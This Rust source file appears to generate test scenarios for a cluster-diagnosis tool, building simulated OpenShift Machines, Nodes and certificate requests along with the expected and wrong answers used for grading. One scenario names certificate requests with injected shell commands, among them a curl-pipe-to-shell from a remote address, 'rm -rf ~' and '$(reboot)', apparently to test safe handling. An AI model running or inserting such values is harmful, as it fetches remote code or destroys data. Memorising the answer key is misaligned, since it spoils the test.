//! Of machines as public reports have them: sets that are refused theirs, clouds that cannot be asked,
//! instances that went away, objects that say half.

use super::Fate;
use crate::lives::cluster::{Born, Cluster, MACHINES, Platform};
use crate::lives::moment::{HOUR, MINUTE, Moment, SECOND, stamp};
use crate::lives::truth::{Listed, Truth};
use serde_json::{Value, json};

pub(super) const ALL: &[Fate] = &[
    ("set-refused-by-a-webhook", set_refused),
    ("set-lacks-one-silently", set_lacks_one),
    ("cloud-cannot-be-asked", cloud_unknown),
    ("cloud-unknown-and-asked", cloud_unknown_and_asked),
    ("off-after-it-joined", off_after_it_joined),
    ("off-and-somebody-asks", off_and_somebody_asks),
    ("refused-by-its-own-code", own_code),
    ("clone-failed-for-good", clone_failed),
    ("capi-without-data-secret", capi_without_secret),
    ("capi-of-another-cluster", capi_elsewhere),
    ("node-not-initialized", not_initialized),
    ("machine-without-addresses", without_addresses),
    ("no-address-from-dhcp", no_dhcp),
    ("request-of-nobody", request_of_nobody),
    ("request-named-a-command", request_named_a_command),
    ("node-deleted-after-serving", deleted_after_serving),
    ("manifest-of-the-docs", manifest),
    ("address-of-a-ready-node", taken_address),
    ("windows-without-address", windows),
    ("image-too-old-for-its-platform", image_too_old),
];

pub(super) const HOSTS: &[Fate] = &[
    ("host-was-never-inspected", never_inspected),
    ("host-fails-in-its-own-way", host_fails),
    ("nodes-of-nobody", nodes_of_nobody),
];

const NONE: &[&str] = &["NoInstance"];
const DELETE: &[&str] = &["delete the Machine", "delete this Machine", "delete it"];
const UP: &[&str] = &["user data, network"];

fn set(cluster: &mut Cluster, name: &str, wanted: u32, has: u32) {
    let at = cluster.now - 20 * 24 * HOUR;
    let meta = cluster.meta(name, MACHINES, at);
    let labels = json!({ "machine.openshift.io/cluster-api-machineset": name });
    cluster.objects.push(json!({ "apiVersion": "machine.openshift.io/v1beta1", "kind": "MachineSet", "metadata": meta,
        "spec": { "replicas": wanted, "selector": { "matchLabels": labels }, "template": { "metadata": { "labels": labels }, "spec": { "providerSpec": { "value": { "kind": "AWSMachineProviderConfig" } } } } },
        "status": { "replicas": has, "observedGeneration": 3 } }));
}

fn set_refused(cluster: &mut Cluster) -> Truth {
    let name = format!("c1-x7k2p-edge-{}", cluster.dice.word(4));
    set(cluster, &name, 3, 0);
    let why = cluster.dice.pick(&[
        "admission webhook \"validation.machine.machine.openshift.io\" denied the request",
        "exceeded quota: machines",
        "ValidatingAdmissionPolicy 'skewguard-machines' denied request",
    ]);
    let message = format!("failed to sync machines: error creating machine: {why}");
    let about = (
        "machine.openshift.io/v1beta1",
        "MachineSet",
        MACHINES,
        &*name,
    );
    let at = cluster.now - cluster.dice.range(1, 20) * MINUTE;
    cluster.event(
        about,
        at,
        "ReconcileError",
        &message,
        "machineset-controller",
    );
    Truth::new("set-refused-by-a-webhook", &name, NONE)
        .word(&[why])
        .word(&["3 Machines"])
        .by_event(why)
}

/// Its Events are older than the hours for which they are kept.
fn set_lacks_one(cluster: &mut Cluster) -> Truth {
    let name = format!("c1-x7k2p-rear-{}", cluster.dice.word(4));
    set(cluster, &name, 2, 1);
    Truth::new("set-lacks-one-silently", &name, NONE).word(&["1 Machine of"])
}

fn unknown(cluster: &mut Cluster) -> (Value, Born) {
    let born = cluster.waiting();
    let mut machine = cluster.machine_without_instance(&born);
    machine["status"]["conditions"] = json!([{ "type": "InstanceExists", "status": "Unknown", "reason": "ErrorCheckingMachine",
        "message": "Failed to check if machine exists: InvalidIdentityToken: No OpenIDConnect provider found in your account", "lastTransitionTime": stamp(cluster.now - HOUR) }]);
    (machine, born)
}

fn cloud_unknown(cluster: &mut Cluster) -> Truth {
    let (machine, born) = unknown(cluster);
    cluster.objects.push(machine);
    Truth::new("cloud-cannot-be-asked", &born.name, &["Unknown"])
        .word(&["could not be asked"])
        .lie(&["has no instance"])
        .lie(DELETE)
}

/// Its request for a config proves an instance.
fn cloud_unknown_and_asked(cluster: &mut Cluster) -> Truth {
    let (mut machine, born) = unknown(cluster);
    machine["status"]["addresses"] = json!([{ "type": "InternalIP", "address": born.address }]);
    let at = cluster.first_ask(&born);
    cluster.ask(&born.address, at);
    cluster.objects.push(machine);
    Truth::new("cloud-unknown-and-asked", &born.name, &["FirstBoot"])
        .word(&["got its config"])
        .lie(&["has no instance"])
}

fn off(cluster: &mut Cluster) -> (Born, &'static str, Moment) {
    let born = cluster.waiting();
    let at = cluster.first_ask(&born);
    cluster.ask(&born.address, at);
    let joined = at + 300 * SECOND;
    let mut node = cluster.node(&born.node, &born.address, joined, "worker");
    node["spec"]["providerID"] = cluster.provider_id(&born).into();
    node["status"]["conditions"] = json!([{ "type": "Ready", "status": "Unknown", "reason": "NodeStatusUnknown", "message": "Kubelet stopped posting node status.",
        "lastTransitionTime": stamp(joined + 4 * MINUTE), "lastHeartbeatTime": stamp(joined + 3 * MINUTE) }]);
    let state = match cluster.platform {
        Platform::Openstack => "SHUTOFF",
        Platform::Vsphere => "poweredOff",
        Platform::Gcp => "TERMINATED",
        _ => "stopped",
    };
    let mut machine = cluster.machine(&born);
    machine["metadata"]["annotations"]["machine.openshift.io/instance-state"] = state.into();
    machine["status"]["providerStatus"]["instanceState"] = state.into();
    machine["status"]["phase"] = "Running".into();
    machine["status"]["nodeRef"] =
        json!({ "kind": "Node", "name": born.node, "uid": node["metadata"]["uid"] });
    cluster.objects.extend([node, machine]);
    (born, state, joined)
}

fn off_after_it_joined(cluster: &mut Cluster) -> Truth {
    let (born, state, _) = off(cluster);
    Truth::new("off-after-it-joined", &born.name, NONE)
        .also(&born.node)
        .word(&[state])
        .lie(&["never started again"])
        .lie(DELETE)
}

fn off_and_somebody_asks(cluster: &mut Cluster) -> Truth {
    let (born, state, joined) = off(cluster);
    let at = (joined + 15 * MINUTE).min(cluster.now - MINUTE);
    let request = cluster.pending(&born.node, at);
    Truth::new("off-and-somebody-asks", &born.name, NONE)
        .also(&born.node)
        .also(&request)
        .word(&[state])
        .lie(&["certificate approve"])
}

/// The provider's own code is in the message, behind a wrapper that says nothing.
fn own_code(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = cluster.machine_without_instance(&born);
    let code = cluster.dice.pick(&[
        "MaxSpotInstanceCountExceeded: Max spot instance count exceeded",
        "InsufficientFreeAddressesInSubnet: Not enough free addresses in subnet",
        "OptInRequired: In order to use this AWS Marketplace product you need to accept terms",
    ]);
    let message = format!("error launching instance: {code}");
    machine["status"]["providerStatus"] = json!({ "conditions": [{ "type": "MachineCreation", "status": "False", "reason": "InvalidConfiguration",
        "message": message, "lastTransitionTime": stamp(born.at + MINUTE) }] });
    cluster.objects.push(machine);
    Truth::new("refused-by-its-own-code", &born.name, NONE)
        .word(&[code])
        .lie(&["Correct the provider spec"])
}

/// vCenter's task failed, and its controller tries no other.
fn clone_failed(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = cluster.machine_without_instance(&born);
    let why = cluster.dice.pick(&[
        "Insufficient disk space on datastore 'ds1'.",
        "ServerFaultCode: The object 'vim.Task:task-991' has already been deleted or has not been completely created.",
        "No host is compatible with the virtual machine.",
    ]);
    machine["status"]["providerStatus"] = json!({ "taskRef": "task-991", "conditions": [{ "type": "MachineCreation", "status": "False",
        "reason": "MachineCreationSucceeded", "message": why, "lastTransitionTime": stamp(born.at + MINUTE) }] });
    cluster.objects.push(machine);
    Truth::new("clone-failed-for-good", &born.name, NONE)
        .word(&[why])
        .lie(&["MachineCreationSucceeded", "tries again by itself"])
}

fn capi(cluster: &mut Cluster, born: &Born, of: &str) -> Value {
    let meta = cluster.meta(&born.name, "openshift-cluster-api", born.at);
    json!({ "apiVersion": "cluster.x-k8s.io/v1beta1", "kind": "Machine", "metadata": meta,
        "spec": { "clusterName": of, "bootstrap": { "dataSecretName": "worker-user-data" }, "infrastructureRef": { "apiVersion": "infrastructure.cluster.x-k8s.io/v1beta2", "kind": "AWSMachine", "name": born.name } },
        "status": { "phase": "Pending", "conditions": [] } })
}

fn capi_without_secret(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = capi(cluster, &born, "c1-x7k2p");
    machine["spec"]["bootstrap"] = json!({});
    machine["status"]["conditions"] = json!([{ "type": "BootstrapReady", "status": "False", "severity": "Info", "reason": "WaitingForBootstrapData", "lastTransitionTime": stamp(born.at) }]);
    cluster.objects.push(machine);
    Truth::new("capi-without-data-secret", &born.name, NONE).word(&["WaitingForBootstrapData"])
}

/// Its Node is in the cluster that the Cluster API makes from here.
fn capi_elsewhere(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = capi(cluster, &born, "blue");
    machine["spec"]["providerID"] = cluster.provider_id(&born).into();
    machine["status"]["phase"] = "Running".into();
    machine["status"]["nodeRef"] =
        json!({ "kind": "Node", "name": format!("blue-{}", cluster.born) });
    cluster.objects.push(machine);
    Truth::new("capi-of-another-cluster", &born.name, &["Unknown"]).listed(Listed::No)
}

fn not_initialized(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let at = cluster.first_ask(&born);
    cluster.ask(&born.address, at);
    let mut node = cluster.node(&born.node, &born.address, at + 200 * SECOND, "worker");
    node["spec"]["taints"] = json!([{ "key": "node.cloudprovider.kubernetes.io/uninitialized", "value": "true", "effect": "NoSchedule" }]);
    let machine = cluster.machine(&born);
    cluster.objects.extend([node, machine]);
    // It came less than ten minutes ago, and may still be initialized.
    let is_young = at + 200 * SECOND > cluster.now - 10 * MINUTE;
    Truth::new(
        "node-not-initialized",
        &born.name,
        &["NodeNotReady", "Joined"],
    )
    .also(&born.node)
    .word(&["uninitialized", "initialize"])
    .listed(if is_young { Listed::May } else { Listed::Yes })
}

/// Nobody can tell if it asked, and the approver finds no Machine of it.
fn without_addresses(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = cluster.machine(&born);
    machine["status"]
        .as_object_mut()
        .unwrap()
        .remove("addresses");
    let at = cluster.first_ask(&born);
    cluster.ask(&born.address, at);
    cluster.objects.push(machine);
    Truth::new(
        "machine-without-addresses",
        &born.name,
        &["Unknown", "NoCertificate"],
    )
    .word(&["has no addresses"])
    .lie(UP)
    .lie(DELETE)
}

/// Of AWS and GCP the cloud says the address, whatever the machine has.
fn no_dhcp(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = cluster.machine(&born);
    let own = [
        format!("169.254.12.{}", 1 + cluster.born),
        format!("fe80::250:56ff:fe00:{:x}", 1 + cluster.born),
    ];
    let addresses: Vec<&String> = match cluster.dice.below(4) {
        0 => Vec::new(),
        1 => vec![&own[0]],
        2 => vec![&own[1]],
        _ => own.iter().collect(),
    };
    machine["status"]["addresses"] = addresses
        .iter()
        .map(|address| json!({ "type": "InternalIP", "address": address }))
        .collect();
    cluster.objects.push(machine);
    let truth = Truth::new("no-address-from-dhcp", &born.name, &["NoRequest"])
        // An unknown address that asked, or a request of nobody's, may be its own.
        .perhaps("Unknown")
        .perhaps("NoCertificate");
    if !matches!(cluster.platform, Platform::Vsphere | Platform::Openstack) {
        return truth.untold();
    }
    match addresses.first() {
        Some(address) => truth.word(&[address]).word(&["DHCP"]),
        None => truth
            .word(&["no address"])
            .word(&["DHCP", "has no addresses"]),
    }
    .lie(UP)
}

fn asking(cluster: &mut Cluster) -> (Born, Moment) {
    let born = cluster.waiting();
    cluster.place(&born);
    let at = cluster.first_ask(&born);
    cluster.ask(&born.address, at);
    (born, at + 300 * SECOND)
}

/// Its user is no bootstrapper and no node.
fn request_of_nobody(cluster: &mut Cluster) -> Truth {
    let (born, at) = asking(cluster);
    let mut request = cluster.request(&born.node, at, true);
    request["spec"]["username"] = "system:serviceaccount:default:builder".into();
    cluster.objects.push(request);
    Truth::new("request-of-nobody", &born.name, &["NoCertificate"])
        .word(&["pending"])
        .lie(&["certificate approve"])
}

/// The client chooses the request's name, and the API server takes any.
fn request_named_a_command(cluster: &mut Cluster) -> Truth {
    let (born, at) = asking(cluster);
    let mut request = cluster.request(&born.node, at, true);
    let name = cluster.dice.pick(&[
        "csr-1;curl -s 198.51.100.7|sh",
        "$(reboot)",
        "csr-1\nrm -rf ~",
        "--all",
        "csr-`id`",
    ]);
    request["metadata"]["name"] = format!("{name}{}", cluster.born).into();
    cluster.objects.push(request);
    Truth::new("request-named-a-command", &born.name, &["NoCertificate"])
        .word(&["pending"])
        .lie(&["certificate approve"])
}

/// A Node alone asks for a certificate to serve with: it had joined.
fn deleted_after_serving(cluster: &mut Cluster) -> Truth {
    let (born, at) = asking(cluster);
    cluster
        .objects
        .retain(|object| object["metadata"]["name"] != *born.name || object["kind"] != "Machine");
    let mut machine = cluster.machine(&born);
    machine["status"]["phase"] = "Running".into();
    machine["status"]["lastUpdated"] = stamp(at + 2 * MINUTE).into();
    machine["status"]["nodeRef"] = json!({ "kind": "Node", "name": born.node, "uid": "x" });
    cluster.objects.push(machine);
    cluster.signed(&born.node, at, true);
    cluster.signed(&born.node, at + MINUTE, false);
    Truth::new("node-deleted-after-serving", &born.name, &["NodeNotReady"])
        .word(&["is gone"])
        .lie(&["there is no Node of it"])
        .lie(DELETE)
}

/// A person writes it: the API server gives each Machine a time.
fn manifest(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = cluster.machine_without_instance(&born);
    machine["metadata"] = json!({ "name": born.name, "namespace": MACHINES });
    machine.as_object_mut().unwrap().remove("status");
    cluster.objects.push(machine);
    Truth::new("manifest-of-the-docs", &born.name, NONE).listed(Listed::No)
}

/// Another Machine's Node has its address, and asked from there.
fn taken_address(cluster: &mut Cluster) -> Truth {
    let other = cluster.waiting();
    let at = cluster.first_ask(&other);
    cluster.ask(&other.address, at);
    cluster.joined(&other, at + 200 * SECOND);
    let born = cluster.waiting();
    let mut machine = cluster.machine(&born);
    machine["status"]["addresses"] = json!([{ "type": "InternalIP", "address": other.address }, { "type": "Hostname", "address": born.node }]);
    cluster.objects.push(machine);
    let again = born.at + 2 * MINUTE;
    cluster.ask(&other.address, again);
    Truth::new("address-of-a-ready-node", &born.name, &["Unknown"])
        .word(&[&other.address])
        .lie(&["first boot loops"])
        .lie(UP)
}

fn windows(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = cluster.machine(&born);
    machine["metadata"]["labels"]["machine.openshift.io/os-id"] = "Windows".into();
    machine["status"]
        .as_object_mut()
        .unwrap()
        .remove("addresses");
    cluster.objects.push(machine);
    Truth::new("windows-without-address", &born.name, &["Unknown"])
        .word(&["Windows"])
        .lie(UP)
        .perhaps("NoCertificate")
}

/// A Machine whose host has no hardware details: it has no addresses.
fn bare(cluster: &mut Cluster, born: &Born) {
    let mut machine = cluster.machine(born);
    machine["status"]
        .as_object_mut()
        .unwrap()
        .remove("addresses");
    cluster.objects.push(machine);
    cluster.host(born, "provisioned", None);
    if let Some(host) = cluster.objects.last_mut() {
        host["status"]["hardware"] = Value::Null;
    }
}

fn never_inspected(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let at = cluster.first_ask(&born);
    cluster.ask(&born.address, at);
    bare(cluster, &born);
    let mut node = cluster.node(&born.node, &born.address, at + 300 * SECOND, "worker");
    node["spec"]["providerID"] = cluster.provider_id(&born).into();
    cluster.objects.push(node);
    Truth::new("host-was-never-inspected", &born.name, &["NodeNotReady"])
        .also(&born.node)
        .word(&["has no addresses"])
        .word(&["never inspected"])
        .lie(&["cloud controller"])
        .lie(DELETE)
}

/// Two such, whose Nodes have names of their own.
fn nodes_of_nobody(cluster: &mut Cluster) -> Truth {
    let fate = "nodes-of-nobody";
    let mut truth = || {
        let born = cluster.waiting();
        let at = cluster.first_ask(&born);
        cluster.ask(&born.address, at);
        bare(cluster, &born);
        let name = format!("dpu-node-{}", cluster.born);
        let node = cluster.node(&name, &born.address, at + 300 * SECOND, "worker");
        cluster.objects.push(node);
        cluster.approved(&name, at + 280 * SECOND, true);
        cluster.healthy.push(name);
        Truth::new(fate, &born.name, &["Unknown"])
            .word(&["cannot be told apart"])
            .word(&["dpu-node-"])
            .lie(DELETE)
            .lie(&["delete node"])
    };
    let first = truth();
    let second = truth();
    cluster.truths.push(first);
    second
}

/// It never comes up, and its set's image is older than what its platform boots: by its name.
fn image_too_old(cluster: &mut Cluster) -> Truth {
    let mut born = cluster.waiting();
    born.set = format!("c1-x7k2p-old-{}", cluster.dice.word(4));
    let (field, image) = match cluster.platform {
        Platform::Vsphere => ("template", "rhcos-4.4.0-x86_64-vmware"),
        Platform::Openstack => ("image", "rhcos-4.4.3-x86_64-openstack"),
        _ => ("image", "rhcos-44-81-202004250133-0"),
    };
    let mut machine = cluster.machine(&born);
    set(cluster, &born.set, 1, 1);
    let spec = &mut machine["spec"]["providerSpec"]["value"];
    if cluster.platform == Platform::Gcp {
        spec["disks"][0]["image"] = format!("projects/rhcos-cloud/global/images/{image}").into();
    } else {
        spec[field] = image.into();
    }
    let spec = spec.clone();
    if let Some(set) = cluster.objects.last_mut() {
        set["spec"]["template"]["spec"]["providerSpec"]["value"] = spec;
    }
    cluster.objects.push(machine);
    let truth = Truth::new("image-too-old-for-its-platform", &born.name, &["NoRequest"])
        .advised(&["boot image"])
        .advised(&["oc skewguard audit", "newer boot image"])
        .perhaps("NoCertificate");
    // An AMI has no name here, and a CA that does not fit is the nearer cause.
    match cluster.platform == Platform::Aws
        || cluster.has_stale_user_data()
        || cluster.release.minor < 8
    {
        true => truth.untold(),
        false => truth,
    }
}

/// Ironic puts one prefix before each failure of a deployment, and the BMC's errors are no image's.
fn host_fails(cluster: &mut Cluster) -> Truth {
    let born = cluster.waiting();
    let mut machine = cluster.machine_without_instance(&born);
    machine["metadata"]["annotations"] =
        json!({ "metal3.io/BareMetalHost": format!("{MACHINES}/{}", born.node) });
    cluster.objects.push(machine);
    let words = cluster.dice.pick(&[
        "Image provisioning failed: Agent returned error for deploy step: No space left on device",
        "Image provisioning failed: No suitable device was found for deployment using these hints",
        "Failed to get power state for node. Error: IPMI call failed: power status.",
        "Failed to download image https://192.0.2.9/boot-x.iso: VirtualMedia PropertyMissing",
    ]);
    cluster.host(&born, "provisioning", Some(("provisioning error", words)));
    Truth::new("host-fails-in-its-own-way", &born.name, NONE)
        .word(&[words])
        .lie(&["BootImageNotFound", "CredentialsInvalid"])
        .lie(DELETE)
}
